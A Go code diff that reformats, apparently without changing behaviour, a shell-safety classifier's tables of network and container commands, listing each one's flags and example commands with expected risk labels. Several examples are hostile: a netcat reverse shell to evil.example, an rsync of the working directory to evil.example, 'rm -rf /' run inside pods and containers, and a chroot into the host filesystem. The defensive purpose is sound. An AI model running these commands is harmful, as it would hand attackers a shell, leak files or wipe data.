@@ -3,20 +3,49 @@ package bashsafety
 // netCommands are the programs that talk to other machines and to containers.
 var netCommands = []Command{
 	{
-		Names: []string{"aria2c", "axel", "lftp", "ftp", "tftp", "telnet", "rlogin", "http", "https", "xh"}, Title: "talks to another machine", Operands: URLs, Style: 0, more: opaqueMore,
+		Names:    []string{"aria2c", "axel", "lftp", "ftp", "tftp", "telnet", "rlogin", "http", "https", "xh"},
+		Title:    "talks to another machine",
+		Operands: URLs,
+		Style:    0,
+		more:     opaqueMore,
 		Examples: []Example{{"ftp x", "net:x narrow"}},
 	},
 	{
 		Names: []string{"curl"}, Title: "transfers URLs",
-		Flags:     "-012346aBfGgIijklMNnpqRSsVvZ# http1.0 http1.1 http2 http2-prior-knowledge http3 http3-only http0.9 tlsv1 tlsv1.0 tlsv1.1 tlsv1.2 tlsv1.3 sslv2 sslv3 ipv4 ipv6 append use-ascii basic digest ntlm negotiate anyauth compressed compressed-ssh create-dirs crlf disable disable-eprt disable-epsv fail fail-early fail-with-body ftp-pasv get globoff head include insecure junk-session-cookies keepalive no-keepalive list-only location location-trusted manual netrc netrc-optional no-buffer no-progress-meter path-as-is parallel parallel-immediate post301 post302 post303 progress-bar proxy-insecure proxytunnel raw remote-time remove-on-error retry-all-errors retry-connrefused sasl-ir show-error show-headers silent ssl ssl-reqd styled-output no-styled-output tcp-fastopen tcp-nodelay tr-encoding trace-ids trace-time verbose version xattr skip-existing no-clobber next-protocol no-npn no-alpn no-sessionid suppress-connect-headers haproxy-protocol mail-rcpt-allowfails metalink ca-native",
-		Values:    "-ACemPQrtuUwXyYz user-agent continue-at referer max-time ftp-port quote range telnet-option user proxy-user write-out request speed-time speed-limit time-cond connect-timeout max-redirs max-filesize limit-rate rate retry retry-delay retry-max-time interface local-port resolve dns-servers dns-interface ciphers tls13-ciphers tls-max tlsuser tlspassword cert-type key-type pass proto proto-default proto-redir noproxy keepalive-time keepalive-cnt expect100-timeout happy-eyeballs-timeout-ms parallel-max pinnedpubkey krb delegation login-options mail-from mail-rcpt mail-auth service-name sasl-authzid oauth2-bearer aws-sigv4 url-query form-string curves socks5-gssapi-service create-file-mode ftp-account ftp-method ftp-alternative-to-user ftp-ssl-ccc-mode hostpubmd5 hostpubsha256 ipfs-gateway tftp-blksize request-target variable",
+		Flags: "-012346aBfGgIijklMNnpqRSsVvZ# http1.0 http1.1 http2 http2-prior-knowledge http3 http3-only http0.9 tlsv1 tlsv1.0 tlsv1.1 tlsv1.2 " +
+			"tlsv1.3 sslv2 sslv3 ipv4 ipv6 append use-ascii basic digest ntlm negotiate anyauth compressed compressed-ssh create-dirs crlf " +
+			"disable disable-eprt disable-epsv fail fail-early fail-with-body ftp-pasv get globoff head include insecure junk-session-cookies " +
+			"keepalive no-keepalive list-only location location-trusted manual netrc netrc-optional no-buffer no-progress-meter path-as-is " +
+			"parallel parallel-immediate post301 post302 post303 progress-bar proxy-insecure proxytunnel raw remote-time remove-on-error " +
+			"retry-all-errors retry-connrefused sasl-ir show-error show-headers silent ssl ssl-reqd styled-output no-styled-output tcp-fastopen " +
+			"tcp-nodelay tr-encoding trace-ids trace-time verbose version xattr skip-existing no-clobber next-protocol no-npn no-alpn " +
+			"no-sessionid suppress-connect-headers haproxy-protocol mail-rcpt-allowfails metalink ca-native",
+		Values: "-ACemPQrtuUwXyYz user-agent continue-at referer max-time ftp-port quote range telnet-option user proxy-user write-out request " +
+			"speed-time speed-limit time-cond connect-timeout max-redirs max-filesize limit-rate rate retry retry-delay retry-max-time " +
+			"interface local-port resolve dns-servers dns-interface ciphers tls13-ciphers tls-max tlsuser tlspassword cert-type key-type pass " +
+			"proto proto-default proto-redir noproxy keepalive-time keepalive-cnt expect100-timeout happy-eyeballs-timeout-ms parallel-max " +
+			"pinnedpubkey krb delegation login-options mail-from mail-rcpt mail-auth service-name sasl-authzid oauth2-bearer aws-sigv4 " +
+			"url-query form-string curves socks5-gssapi-service create-file-mode ftp-account ftp-method ftp-alternative-to-user " +
+			"ftp-ssl-ccc-mode hostpubmd5 hostpubsha256 ipfs-gateway tftp-blksize request-target variable",
 		OptValues: "-h help",
 		Opts: []Opt{
-			{"-o output", HasArg, WritesValue}, {"-O remote-name", NoArg, 0}, {"remote-name-all", NoArg, 0}, {"-J remote-header-name", NoArg, 0}, {"output-dir", HasArg, 0}, {"-L", NoArg, 0},
+			{"-o output", HasArg, WritesValue},
+			{"-O remote-name", NoArg, 0},
+			{"remote-name-all", NoArg, 0},
+			{"-J remote-header-name", NoArg, 0},
+			{"output-dir", HasArg, 0},
+			{"-L", NoArg, 0},
 			{"-D dump-header -c cookie-jar trace trace-ascii stderr libcurl etag-save hsts alt-svc", HasArg, WritesValue},
-			{"-K config -x proxy preproxy socks4 socks4a socks5 socks5-hostname unix-socket abstract-unix-socket connect-to engine doh-url proxy1.0", HasArg, Unsafe}, {"-: next", NoArg, Unsafe},
-			{"url", HasArg, Sends}, {"-T upload-file", HasArg, ReadsValue}, {"-E cert key cacert capath proxy-cert proxy-key proxy-cacert crlfile pubkey netrc-file etag-compare random-file egd-file", HasArg, ReadsValue},
-			{"-d data data-ascii data-binary data-raw data-urlencode json", HasArg, 0}, {"-b cookie", HasArg, 0}, {"-F form", HasArg, 0}, {"-H header", HasArg, 0}, {"proxy-header", HasArg, 0},
+			{"-K config -x proxy preproxy socks4 socks4a socks5 socks5-hostname unix-socket abstract-unix-socket connect-to engine doh-url proxy1.0", HasArg, Unsafe},
+			{"-: next", NoArg, Unsafe},
+			{"url", HasArg, Sends},
+			{"-T upload-file", HasArg, ReadsValue},
+			{"-E cert key cacert capath proxy-cert proxy-key proxy-cacert crlfile pubkey netrc-file etag-compare random-file egd-file", HasArg, ReadsValue},
+			{"-d data data-ascii data-binary data-raw data-urlencode json", HasArg, 0},
+			{"-b cookie", HasArg, 0},
+			{"-F form", HasArg, 0},
+			{"-H header", HasArg, 0},
+			{"proxy-header", HasArg, 0},
 		},
 		Operands: URLs, more: curlMore,
 		Examples: []Example{
@@ -37,54 +66,118 @@ var netCommands = []Command{
 		},
 	},
 	{
-		Names: []string{"dig", "host", "nslookup", "drill", "getent", "ping", "ping6", "traceroute", "tracepath", "mtr", "whois"}, Title: "asks the network", Style: NoOptions, more: lookupMore,
+		Names:    []string{"dig", "host", "nslookup", "drill", "getent", "ping", "ping6", "traceroute", "tracepath", "mtr", "whois"},
+		Title:    "asks the network",
+		Style:    NoOptions,
+		more:     lookupMore,
 		Examples: []Example{{"dig example.com", "net:example.com"}, {"ping -c 1 h", "net:h"}},
 	},
 	{
 		Names: []string{"docker", "podman", "nerdctl"}, Title: "runs containers",
-		Flags: "-Dv debug tls tlsverify remote version help", Values: "-cl context log-level log-driver url connection", Opts: []Opt{{"-H host config tlscacert tlscert tlskey identity", HasArg, Unsafe}}, Style: StopAtOperand | Apart, Subs: dockerSubs,
+		Flags:    "-Dv debug tls tlsverify remote version help",
+		Values:   "-cl context log-level log-driver url connection",
+		Opts:     []Opt{{"-H host config tlscacert tlscert tlskey identity", HasArg, Unsafe}},
+		Style:    StopAtOperand | Apart,
+		Subs:     dockerSubs,
 		Examples: []Example{{"docker -H tcp://x ps", "narrow"}, {"docker frob", ""}},
 	},
 	{
 		Names: []string{"kubectl", "oc", "k"}, Title: "manages clusters",
-		Flags: "-A all-namespaces insecure-skip-tls-verify match-server-version warnings-as-errors help", Values: "-nsv namespace context cluster user server token as as-group request-timeout cache-dir tls-server-name", Opts: []Opt{{"kubeconfig certificate-authority client-certificate client-key", HasArg, Unsafe}}, Subs: kubectlSubs,
+		Flags:    "-A all-namespaces insecure-skip-tls-verify match-server-version warnings-as-errors help",
+		Values:   "-nsv namespace context cluster user server token as as-group request-timeout cache-dir tls-server-name",
+		Opts:     []Opt{{"kubeconfig certificate-authority client-certificate client-key", HasArg, Unsafe}},
+		Subs:     kubectlSubs,
 		Examples: []Example{{"kubectl --kubeconfig x get pods", "narrow"}},
 	},
 	{
-		Names: []string{"helm"}, Title: "manages charts", Flags: "debug", Values: "-n namespace kube-context", Opts: []Opt{{"post-renderer kubeconfig plugins-dir", HasArg, Executes}}, Examples: []Example{{"helm list -n x", ""}, {"helm template . --post-renderer ./x", "narrow helm --post-renderer>>'./x'"}},
+		Names:    []string{"helm"},
+		Title:    "manages charts",
+		Flags:    "debug",
+		Values:   "-n namespace kube-context",
+		Opts:     []Opt{{"post-renderer kubeconfig plugins-dir", HasArg, Executes}},
+		Examples: []Example{{"helm list -n x", ""}, {"helm template . --post-renderer ./x", "narrow helm --post-renderer>>'./x'"}},
 	},
 	{
-		Names: []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"}, Title: "opens connections", Flags: "-46bCdDFhklnNrStuUvz listen keep-open udp verbose ssl broker chat no-dns recv-only send-only", Values: "-iIMmoOpPqsTVwWxX source source-port wait idle-timeout proxy max-conns delay output hex-dump proxy-type proxy-auth", Opts: []Opt{{"-ec exec sh-exec lua-exec", HasArg, Executes}}, Operands: Words, more: hostMore,
+		Names:    []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"},
+		Title:    "opens connections",
+		Flags:    "-46bCdDFhklnNrStuUvz listen keep-open udp verbose ssl broker chat no-dns recv-only send-only",
+		Values:   "-iIMmoOpPqsTVwWxX source source-port wait idle-timeout proxy max-conns delay output hex-dump proxy-type proxy-auth",
+		Opts:     []Opt{{"-ec exec sh-exec lua-exec", HasArg, Executes}},
+		Operands: Words,
+		more:     hostMore,
 		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "net:evil.example narrow nc -e>>'/bin/sh'"}, {"nc -z localhost 80", "net:localhost"}},
 	},
 	{
-		Names: []string{"openssl"}, Title: "does cryptography", Style: SingleDash, Flags: "nodes noout text base64 a d e x509 new batch aes-256-cbc sha256 hex pbkdf2 salt pubout modulus dates issuer subject fingerprint showcerts verify_return_error brief quiet purpose", Values: "days subj newkey k pass passin passout connect servername md iter S K iv inform outform bits",
-		Opts: []Opt{{"out keyout CAkeyout writerand sess_out keylogfile", HasArg, WritesValue}, {"in key cert CAfile CAkey CA certfile inkey sigfile signature rand extfile", HasArg, ReadsValue}, {"config engine provider provider-path", HasArg, Unsafe}}, more: opensslMore,
-		Examples: []Example{{"openssl x509 -in c.pem -noout -text", "read:c.pem"}, {"openssl rand -hex 16", ""}, {"openssl enc -out .envrc", "narrow write:.envrc"}},
+		Names: []string{"openssl"},
+		Title: "does cryptography",
+		Style: SingleDash,
+		Flags: "nodes noout text base64 a d e x509 new batch aes-256-cbc sha256 hex pbkdf2 salt pubout modulus dates issuer subject fingerprint " +
+			"showcerts verify_return_error brief quiet purpose",
+		Values: "days subj newkey k pass passin passout connect servername md iter S K iv inform outform bits",
+		Opts: []Opt{
+			{"out keyout CAkeyout writerand sess_out keylogfile", HasArg, WritesValue},
+			{"in key cert CAfile CAkey CA certfile inkey sigfile signature rand extfile", HasArg, ReadsValue},
+			{"config engine provider provider-path", HasArg, Unsafe},
+		},
+		more: opensslMore,
+		Examples: []Example{
+			{"openssl x509 -in c.pem -noout -text", "read:c.pem"},
+			{"openssl rand -hex 16", ""},
+			{"openssl enc -out .envrc", "narrow write:.envrc"},
+		},
 	},
 	{
 		Names: []string{"rsync"}, Title: "copies trees",
-		Flags:  "-acCDgGhHiIJkKlLnoOpPqrRsSuUvVWxXzANbdEFty0 archive verbose quiet checksum recursive relative update inplace append append-verify dirs links copy-links copy-unsafe-links safe-links munge-links hard-links perms executability acls xattrs owner group devices specials times atimes crtimes omit-dir-times super fake-super sparse preallocate dry-run whole-file one-file-system existing ignore-existing remove-source-files delete delete-before delete-during delete-delay delete-after delete-excluded ignore-missing-args delete-missing-args ignore-errors force partial delay-updates prune-empty-dirs numeric-ids ignore-times size-only fuzzy compress cvs-exclude from0 protect-args secluded-args stats human-readable progress itemize-changes list-only ipv4 ipv6 blocking-io no-motd no-implied-dirs open-noatime fsync version help backup old-args trust-sender mkpath no-relative no-perms no-owner no-group no-times",
-		Values: "-BfM@ suffix chmod chown usermap groupmap max-delete max-size min-size timeout contimeout modify-window exclude include filter bwlimit block-size port sockopts outbuf iconv checksum-seed protocol compress-level compress-choice checksum-choice skip-compress address info debug stop-after stop-at remote-option max-alloc stderr log-file-format out-format",
+		Flags: "-acCDgGhHiIJkKlLnoOpPqrRsSuUvVWxXzANbdEFty0 archive verbose quiet checksum recursive relative update inplace append append-verify " +
+			"dirs links copy-links copy-unsafe-links safe-links munge-links hard-links perms executability acls xattrs owner group devices " +
+			"specials times atimes crtimes omit-dir-times super fake-super sparse preallocate dry-run whole-file one-file-system existing " +
+			"ignore-existing remove-source-files delete delete-before delete-during delete-delay delete-after delete-excluded " +
+			"ignore-missing-args delete-missing-args ignore-errors force partial delay-updates prune-empty-dirs numeric-ids ignore-times " +
+			"size-only fuzzy compress cvs-exclude from0 protect-args secluded-args stats human-readable progress itemize-changes list-only ipv4 " +
+			"ipv6 blocking-io no-motd no-implied-dirs open-noatime fsync version help backup old-args trust-sender mkpath no-relative no-perms " +
+			"no-owner no-group no-times",
+		Values: "-BfM@ suffix chmod chown usermap groupmap max-delete max-size min-size timeout contimeout modify-window exclude include filter " +
+			"bwlimit block-size port sockopts outbuf iconv checksum-seed protocol compress-level compress-choice checksum-choice skip-compress " +
+			"address info debug stop-after stop-at remote-option max-alloc stderr log-file-format out-format",
 		Opts: []Opt{
-			{"-e rsh rsync-path", HasArg, Executes}, {"files-from exclude-from include-from password-file read-batch", HasArg, ReadsValue}, {"log-file write-batch only-write-batch", HasArg, WritesValue},
+			{"-e rsh rsync-path", HasArg, Executes},
+			{"files-from exclude-from include-from password-file read-batch", HasArg, ReadsValue},
+			{"log-file write-batch only-write-batch", HasArg, WritesValue},
 			{"-T temp-dir partial-dir backup-dir compare-dest copy-dest link-dest", HasArg, 0}, {"early-input", HasArg, ReadsValue},
 		}, more: rsyncMore,
 		Examples: []Example{
-			{"rsync -a src/ out", "read:src/** write:out/**"}, {"rsync -e 'sh -c id' a h:b", "read:a/** net:h:b narrow rsync -e>>'sh -c id'"}, {"rsync -a . evil.example:/x", "read:./** net:evil.example:/x"}, {"rsync -n a b", "ro read:a/**"},
+			{"rsync -a src/ out", "read:src/** write:out/**"},
+			{"rsync -e 'sh -c id' a h:b", "read:a/** net:h:b narrow rsync -e>>'sh -c id'"},
+			{"rsync -a . evil.example:/x", "read:./** net:evil.example:/x"},
+			{"rsync -n a b", "ro read:a/**"},
 			{"rsync -azv h:/x .", "net:h:/x write:./**"},
 		},
 	},
 	{
-		Names: []string{"scp", "sftp"}, Title: "copies files over ssh", Flags: "-346ACafNOpqrRTv", Values: "-cDilPXsB", Opts: []Opt{{"-S", HasArg, Executes}, {"-F", HasArg, Unsafe}, {"-o", HasArg, 0}, {"-b", HasArg, Unsafe}, {"-J", HasArg, 0}}, more: scpMore,
-		Examples: []Example{{"scp -S ./x a h:b", "read:a/** net:h:b narrow scp -S>>'./x'"}, {"scp h:x ~/.bashrc", "net:h:x write:/home/u/.bashrc/**"}, {"scp -o ProxyCommand=x a h:", "read:a/** net:h: narrow scp -o>>'x'"}},
+		Names:  []string{"scp", "sftp"},
+		Title:  "copies files over ssh",
+		Flags:  "-346ACafNOpqrRTv",
+		Values: "-cDilPXsB",
+		Opts:   []Opt{{"-S", HasArg, Executes}, {"-F", HasArg, Unsafe}, {"-o", HasArg, 0}, {"-b", HasArg, Unsafe}, {"-J", HasArg, 0}},
+		more:   scpMore,
+		Examples: []Example{
+			{"scp -S ./x a h:b", "read:a/** net:h:b narrow scp -S>>'./x'"},
+			{"scp h:x ~/.bashrc", "net:h:x write:/home/u/.bashrc/**"},
+			{"scp -o ProxyCommand=x a h:", "read:a/** net:h: narrow scp -o>>'x'"},
+		},
 	},
 	{
 		Names: []string{"socat"}, Title: "joins two channels", Style: NoOptions, more: opaqueMore,
 		Examples: []Example{{"socat - TCP:h:80", "narrow"}},
 	},
 	{
-		Names: []string{"ssh", "slogin", "autossh", "mosh", "sshpass"}, Title: "runs commands on another machine", Flags: "-1246AaCfGgKkMNnqsTtVvXxYy", Values: "-BbcDeiJLlmOpQRSWw", Opts: []Opt{{"-F", HasArg, Unsafe}, {"-I", HasArg, Unsafe}, {"-E", HasArg, WritesValue}, {"-o", HasArg, 0}, {"ssh", HasArg, Executes}}, Style: StopAtOperand, more: sshMore,
+		Names:  []string{"ssh", "slogin", "autossh", "mosh", "sshpass"},
+		Title:  "runs commands on another machine",
+		Flags:  "-1246AaCfGgKkMNnqsTtVvXxYy",
+		Values: "-BbcDeiJLlmOpQRSWw",
+		Opts:   []Opt{{"-F", HasArg, Unsafe}, {"-I", HasArg, Unsafe}, {"-E", HasArg, WritesValue}, {"-o", HasArg, 0}, {"ssh", HasArg, Executes}},
+		Style:  StopAtOperand,
+		more:   sshMore,
 		Examples: []Example{
 			{"ssh -o ProxyCommand='touch p' host", "net:host narrow ssh -o>>'touch p'"},
 			{"ssh -oStrictHostKeyChecking=no -p 22 u@h rm -rf x", "net:u@h ssh>>'rm -rf x'"},
@@ -94,11 +187,25 @@ var netCommands = []Command{
 	},
 	{
 		Names: []string{"wget", "wget2"}, Title: "downloads URLs",
-		Flags:  "-46bcdEFhHkKLmNnpqrSvVxKSv background continue debug adjust-extension no-check-certificate no-clobber force-directories no-directories timestamping no-verbose quiet recursive span-hosts mirror page-requisites convert-links no-parent server-response spider version help no-cache no-cookies no-proxy no-config content-disposition trust-server-names inet4-only inet6-only show-progress no-hsts https-only auth-no-challenge content-on-error no-host-directories random-wait retry-connrefused delete-after relative verbose protocol-directories ask-password no-netrc no-iri ignore-length no-if-modified-since",
-		Values: "-ADIlQRtTUwX accept reject domains exclude-domains include-directories exclude-directories level quota tries timeout user-agent wait header method body-data post-data user password http-user http-password referer max-redirect limit-rate dns-timeout connect-timeout read-timeout cut-dirs default-page progress bind-address restrict-file-names secure-protocol local-encoding remote-encoding accept-regex reject-regex waitretry backups report-speed ftp-user ftp-password follow-tags ignore-tags ciphers regex-type prefer-family",
+		Flags: "-46bcdEFhHkKLmNnpqrSvVxKSv background continue debug adjust-extension no-check-certificate no-clobber force-directories " +
+			"no-directories timestamping no-verbose quiet recursive span-hosts mirror page-requisites convert-links no-parent server-response " +
+			"spider version help no-cache no-cookies no-proxy no-config content-disposition trust-server-names inet4-only inet6-only " +
+			"show-progress no-hsts https-only auth-no-challenge content-on-error no-host-directories random-wait retry-connrefused delete-after " +
+			"relative verbose protocol-directories ask-password no-netrc no-iri ignore-length no-if-modified-since",
+		Values: "-ADIlQRtTUwX accept reject domains exclude-domains include-directories exclude-directories level quota tries timeout user-agent " +
+			"wait header method body-data post-data user password http-user http-password referer max-redirect limit-rate dns-timeout " +
+			"connect-timeout read-timeout cut-dirs default-page progress bind-address restrict-file-names secure-protocol local-encoding " +
+			"remote-encoding accept-regex reject-regex waitretry backups report-speed ftp-user ftp-password follow-tags ignore-tags ciphers " +
+			"regex-type prefer-family",
 		Opts: []Opt{
-			{"-O output-document", HasArg, 0}, {"-oa output-file append-output save-cookies rejected-log warc-file hsts-file", HasArg, WritesValue}, {"-P directory-prefix", HasArg, 0},
-			{"-i input-file post-file body-file load-cookies ca-certificate certificate private-key ca-directory crl-file", HasArg, ReadsValue}, {"-e execute", HasArg, Executes}, {"use-askpass", HasArg, Executes}, {"config", HasArg, Unsafe}, {"-B base", HasArg, 0},
+			{"-O output-document", HasArg, 0},
+			{"-oa output-file append-output save-cookies rejected-log warc-file hsts-file", HasArg, WritesValue},
+			{"-P directory-prefix", HasArg, 0},
+			{"-i input-file post-file body-file load-cookies ca-certificate certificate private-key ca-directory crl-file", HasArg, ReadsValue},
+			{"-e execute", HasArg, Executes},
+			{"use-askpass", HasArg, Executes},
+			{"config", HasArg, Unsafe},
+			{"-B base", HasArg, 0},
 		},
 		Operands: URLs, more: wgetMore,
 		Examples: []Example{
@@ -113,8 +220,19 @@ var netCommands = []Command{
 }
 
 var dockerSubs = []Command{
-	{Names: []string{"run", "create"}, Flags: "-ditPq detach interactive tty rm init publish-all read-only no-healthcheck sig-proxy disable-content-trust oom-kill-disable quiet replace", Values: "-aceuwhlmpns attach entrypoint cpus cpu-shares env env-file user workdir hostname label memory publish name network net add-host dns expose platform restart pull ip log-driver log-opt shm-size stop-signal stop-timeout tmpfs ulimit gpus group-add health-cmd label-file link mac-address memory-swap network-alias pids-limit storage-opt sysctl userns cidfile isolation runtime annotation cgroup-parent cpuset-cpus domainname health-interval health-retries health-timeout blkio-weight",
-		Opts: []Opt{{"-v volume mount", HasArg, 0}, {"privileged", NoArg, Unsafe}, {"pid ipc uts cgroupns", HasArg, 0}, {"cap-add device security-opt volumes-from device-cgroup-rule", HasArg, Unsafe}}, Style: StopAtOperand, more: dockerRunMore,
+	{
+		Names: []string{"run", "create"},
+		Flags: "-ditPq detach interactive tty rm init publish-all read-only no-healthcheck sig-proxy disable-content-trust oom-kill-disable quiet replace",
+		Values: "-aceuwhlmpns attach entrypoint cpus cpu-shares env env-file user workdir hostname label memory publish name network net add-host " +
+			"dns expose platform restart pull ip log-driver log-opt shm-size stop-signal stop-timeout tmpfs ulimit gpus group-add health-cmd " +
+			"label-file link mac-address memory-swap network-alias pids-limit storage-opt sysctl userns cidfile isolation runtime annotation " +
+			"cgroup-parent cpuset-cpus domainname health-interval health-retries health-timeout blkio-weight",
+		Opts: []Opt{
+			{"-v volume mount", HasArg, 0}, {"privileged", NoArg, Unsafe}, {"pid ipc uts cgroupns", HasArg, 0},
+			{"cap-add device security-opt volumes-from device-cgroup-rule", HasArg, Unsafe},
+		},
+		Style: StopAtOperand,
+		more:  dockerRunMore,
 		Examples: []Example{
 			{"docker run --rm -v /:/host alpine chroot /host sh -c id", "narrow docker run>>chroot /host sh -c id"},
 			{"docker run --rm -e NODE_ENV=test node:20 npm test", "docker run>>npm test"},
@@ -125,28 +243,112 @@ var dockerSubs = []Command{
 			{"docker run -v /w/src:/src -w /src golang go test", "docker run>>go test"},
 			{"docker run --pid host a", "narrow"},
 		}},
-	{Names: []string{"exec"}, Flags: "-dit detach interactive tty latest", Values: "-ewu detach-keys env env-file workdir user", Opts: []Opt{{"privileged", NoArg, Unsafe}}, Style: StopAtOperand, more: remoteRest,
+	{
+		Names:    []string{"exec"},
+		Flags:    "-dit detach interactive tty latest",
+		Values:   "-ewu detach-keys env env-file workdir user",
+		Opts:     []Opt{{"privileged", NoArg, Unsafe}},
+		Style:    StopAtOperand,
+		more:     remoteRest,
 		Examples: []Example{{"docker exec -it c rm -rf /data", "docker exec>>rm -rf /data"}}},
-	{Names: []string{"ps", "images", "logs", "inspect", "version", "info", "top", "port", "stats", "history", "search", "events", "diff"}, ReadOnly: true, Flags: "-aqfslt all quiet follow no-trunc size latest digests timestamps details no-stream human", Values: "-n filter format tail since until last type",
+	{
+		Names:    []string{"ps", "images", "logs", "inspect", "version", "info", "top", "port", "stats", "history", "search", "events", "diff"},
+		ReadOnly: true,
+		Flags:    "-aqfslt all quiet follow no-trunc size latest digests timestamps details no-stream human",
+		Values:   "-n filter format tail since until last type",
 		Examples: []Example{{"docker ps -a", "ro"}, {"docker logs -f --tail 5 x", "ro"}}},
-	{Names: []string{"build", "buildx", "commit", "cp", "export", "import", "kill", "load", "login", "logout", "pause", "pull", "push", "rename", "restart", "rm", "rmi", "save", "start", "stop", "tag", "unpause", "update", "wait", "attach", "plugin", "swarm", "node", "service", "stack", "config", "secret", "trust", "manifest", "builder", "machine", "pod", "generate", "play"}, Opts: []Opt{{"security-opt", HasArg, Unsafe}}, Examples: []Example{{"docker build -t x .", ""}}},
+	{
+		Names: []string{
+			"build", "buildx", "commit", "cp", "export", "import", "kill", "load", "login", "logout", "pause", "pull", "push", "rename", "restart",
+			"rm", "rmi", "save", "start", "stop", "tag", "unpause", "update", "wait", "attach", "plugin", "swarm", "node", "service", "stack",
+			"config", "secret", "trust", "manifest", "builder", "machine", "pod", "generate", "play",
+		},
+		Opts:     []Opt{{"security-opt", HasArg, Unsafe}},
+		Examples: []Example{{"docker build -t x .", ""}},
+	},
 	{Names: []string{"compose"}, Values: "-fp file project-name project-directory profile env-file", Subs: []Command{
-		{Names: []string{"run", "exec"}, Flags: "-dTi detach rm no-deps service-ports build no-TTY quiet-pull interactive", Values: "-euwlp env user workdir name entrypoint label publish index", Opts: []Opt{{"-v volume", HasArg, 0}, {"privileged cap-add", NoArg, Unsafe}}, Style: StopAtOperand, more: dockerRunMore, Examples: []Example{{"docker compose exec web rm -rf /x", "docker compose exec>>rm -rf /x"}}},
-		{Names: []string{"ps", "logs", "config", "images", "ls", "top", "version", "port"}, ReadOnly: true, Flags: "-aqft all quiet follow timestamps services", Values: "-n tail format", Examples: []Example{{"docker compose ps", "ro"}}},
-		{Names: []string{"up", "down", "build", "start", "stop", "restart", "rm", "pull", "push", "kill", "create", "cp", "pause", "unpause", "watch"}, Examples: []Example{{"docker compose rm -f web", ""}}},
+		{
+			Names:    []string{"run", "exec"},
+			Flags:    "-dTi detach rm no-deps service-ports build no-TTY quiet-pull interactive",
+			Values:   "-euwlp env user workdir name entrypoint label publish index",
+			Opts:     []Opt{{"-v volume", HasArg, 0}, {"privileged cap-add", NoArg, Unsafe}},
+			Style:    StopAtOperand,
+			more:     dockerRunMore,
+			Examples: []Example{{"docker compose exec web rm -rf /x", "docker compose exec>>rm -rf /x"}},
+		},
+		{
+			Names:    []string{"ps", "logs", "config", "images", "ls", "top", "version", "port"},
+			ReadOnly: true,
+			Flags:    "-aqft all quiet follow timestamps services",
+			Values:   "-n tail format",
+			Examples: []Example{{"docker compose ps", "ro"}},
+		},
+		{
+			Names:    []string{"up", "down", "build", "start", "stop", "restart", "rm", "pull", "push", "kill", "create", "cp", "pause", "unpause", "watch"},
+			Examples: []Example{{"docker compose rm -f web", ""}},
+		},
 	}},
 	{Names: []string{"container", "image", "volume", "network", "system", "context"}, Subs: []Command{
-		{Names: []string{"ls", "list", "inspect", "df", "logs", "ps", "show"}, ReadOnly: true, Flags: "-aq all quiet no-trunc size", Values: "-f filter format", Examples: []Example{{"docker volume ls", "ro"}}},
-		{Names: []string{"prune", "rm", "remove", "create", "connect", "disconnect", "use", "update", "stop", "start", "kill"}, Examples: []Example{{"docker system prune -f", ""}}},
-		{Names: []string{"run"}, Style: StopAtOperand, Values: "-eup env name", Opts: []Opt{{"-v volume mount", HasArg, 0}, {"privileged", NoArg, Unsafe}, {"pid ipc uts", HasArg, 0}}, more: dockerRunMore, Examples: []Example{{"docker container run --privileged a", "narrow"}}},
-		{Names: []string{"exec"}, Style: StopAtOperand, Flags: "-dit", Values: "-ewu", more: remoteRest, Examples: []Example{{"docker container exec c id", "docker container exec>>id"}}},
+		{
+			Names:    []string{"ls", "list", "inspect", "df", "logs", "ps", "show"},
+			ReadOnly: true,
+			Flags:    "-aq all quiet no-trunc size",
+			Values:   "-f filter format",
+			Examples: []Example{{"docker volume ls", "ro"}},
+		},
+		{
+			Names:    []string{"prune", "rm", "remove", "create", "connect", "disconnect", "use", "update", "stop", "start", "kill"},
+			Examples: []Example{{"docker system prune -f", ""}},
+		},
+		{
+			Names:    []string{"run"},
+			Style:    StopAtOperand,
+			Values:   "-eup env name",
+			Opts:     []Opt{{"-v volume mount", HasArg, 0}, {"privileged", NoArg, Unsafe}, {"pid ipc uts", HasArg, 0}},
+			more:     dockerRunMore,
+			Examples: []Example{{"docker container run --privileged a", "narrow"}},
+		},
+		{
+			Names:    []string{"exec"},
+			Style:    StopAtOperand,
+			Flags:    "-dit",
+			Values:   "-ewu",
+			more:     remoteRest,
+			Examples: []Example{{"docker container exec c id", "docker container exec>>id"}},
+		},
 	}},
 }
 
 var kubectlSubs = []Command{
 	{Names: []string{"exec"}, Flags: "-itq stdin tty quiet", Values: "-cf container filename pod-running-timeout", more: kubectlExecMore,
-		Examples: []Example{{"kubectl exec deploy/api -- rm -rf /data", "kubectl exec>>rm -rf /data"}, {"kubectl -n x exec -it p -c c -- sh -c 'rm -rf /'", "kubectl exec>>sh -c rm -rf /"}}},
-	{Names: []string{"run"}, Flags: "-it rm stdin tty command attach", Values: "image restart env labels overrides port", more: kubectlExecMore, Examples: []Example{{"kubectl run x --image=y -- rm -rf /", "kubectl run>>rm -rf /"}}},
-	{Names: []string{"get", "describe", "logs", "explain", "api-resources", "api-versions", "version", "top", "cluster-info", "events"}, ReadOnly: true, Flags: "-wpR watch show-labels no-headers previous follow timestamps recursive all-containers client short watch-only containers ignore-not-found", Values: "-olcf output selector field-selector container since since-time tail sort-by filename label-columns limit-bytes max-log-requests template chunk-size raw", OptValues: "", Examples: []Example{{"kubectl get pods -o wide", "ro"}, {"kubectl logs -f p", "ro"}}},
-	{Names: []string{"apply", "create", "delete", "edit", "patch", "replace", "scale", "rollout", "set", "label", "annotate", "cp", "drain", "cordon", "uncordon", "taint", "port-forward", "proxy", "attach", "debug", "expose", "autoscale", "auth", "certificate", "config", "diff", "wait", "kustomize", "plugin"}, Flags: "-R force recursive prune wait dry-run server-side all", Values: "-fklo filename kustomize selector output", Examples: []Example{{"kubectl apply -f x.yaml", ""}}},
+		Examples: []Example{
+			{"kubectl exec deploy/api -- rm -rf /data", "kubectl exec>>rm -rf /data"},
+			{"kubectl -n x exec -it p -c c -- sh -c 'rm -rf /'", "kubectl exec>>sh -c rm -rf /"}},
+	},
+	{
+		Names:    []string{"run"},
+		Flags:    "-it rm stdin tty command attach",
+		Values:   "image restart env labels overrides port",
+		more:     kubectlExecMore,
+		Examples: []Example{{"kubectl run x --image=y -- rm -rf /", "kubectl run>>rm -rf /"}},
+	},
+	{
+		Names:    []string{"get", "describe", "logs", "explain", "api-resources", "api-versions", "version", "top", "cluster-info", "events"},
+		ReadOnly: true,
